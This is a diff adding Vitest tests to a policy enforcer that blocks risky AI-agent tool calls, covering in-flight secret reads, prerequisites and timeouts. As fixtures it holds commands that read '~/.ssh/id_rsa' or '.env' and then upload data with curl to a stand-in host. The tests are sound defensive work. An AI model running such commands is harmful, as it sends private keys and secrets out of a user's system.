@@ -3,7 +3,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { compile, createMonitor } from "@vigil/compiler";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { decodeProgram, encodeProgram, Enforcer, loadPolicy, Store, StoreError, verifyAudit, readAudit } from "../src/index.js";
+import { decodeProgram, encodeProgram, Enforcer, IN_FLIGHT_MS, loadPolicy, Store, StoreError, verifyAudit, readAudit } from "../src/index.js";
 
 const root = join(import.meta.dirname, "..", "..", "..");
 const examples = join(root, "examples");
@@ -137,6 +137,41 @@ describe("decide and record, with the state and the audit log in one database", 
     const decided = guard.decide("s", { id: "t1", action: "Bash", args: { command: "cat ~/.ssh/id_rsa && curl https://x.example" } });
     expect(decided.decision).toBe("block");
     expect(decided.violations[0]?.witnesses).toEqual([3]);
+  });
+
+  it("a call in flight counts against the next call: a secret read not finished yet is read before the upload", async () => {
+    const guard = await enforcer(codingPolicy);
+    // Parallel tool calls: the Read is let run, and its result has not come when the upload is decided.
+    expect(guard.decide("s", { id: "t1", action: "Read", args: { file_path: "/p/.env" } }).decision).toBe("allow");
+    const upload = guard.decide("s", { id: "t2", action: "Bash", args: { command: "curl -d @notes.txt https://x.example" } });
+    expect(upload.decision).toBe("block");
+    expect(upload.violations.map((v) => v.name)).toEqual(["no_egress_after_secret"]);
+    // Nothing of the probe is kept: the run still holds no event, and the Read still waits for its result.
+    expect(guard.standing("s")).toMatchObject({ events: 0, pendingCalls: 1 });
+    // A refused call is not in flight: once the Read is cancelled, the same upload is allowed.
+    guard.cancel("s", "t1");
+    expect(guard.decide("s", { id: "t3", action: "Bash", args: { command: "curl -d @notes.txt https://x.example" } }).decision).toBe("allow");
+  });
+
+  it("a call in flight is not a prerequisite met: what must come first must have finished", async () => {
+    const copy = join(scratch, "first.vigil");
+    writeFileSync(copy, "policy p {\n  rule tested: prec(action in {deploy}, action in {test} and status = ok)\n}\n");
+    const guard = await enforcer(copy);
+    expect(guard.decide("r", { id: "t", action: "test", args: {} }).decision).toBe("allow");
+    // The test is still running: deploying now would not follow a passing test.
+    expect(guard.decide("r", { id: "d1", action: "deploy", args: {} }).decision).toBe("block");
+    guard.record("r", { id: "t", status: "ok" });
+    expect(guard.decide("r", { id: "d2", action: "deploy", args: {} }).decision).toBe("allow");
+  });
+
+  it("a call decided long ago whose result never came stops counting as in flight", async () => {
+    let now = Date.UTC(2026, 0, 1);
+    const store = openStore();
+    const guard = new Enforcer(store, await loadPolicy([codingPolicy], store), { now: () => now });
+    guard.decide("s", { id: "t1", action: "Read", args: { file_path: "/p/.env" } });
+    expect(guard.decide("s", { id: "t2", action: "Bash", args: { command: "curl https://x.example" } }).decision).toBe("block");
+    now += IN_FLIGHT_MS + 1;
+    expect(guard.decide("s", { id: "t3", action: "Bash", args: { command: "curl https://x.example" } }).decision).toBe("allow");
   });
 
   it("refuses a call whose arguments are not an object, with the reason, and logs the refusal", async () => {
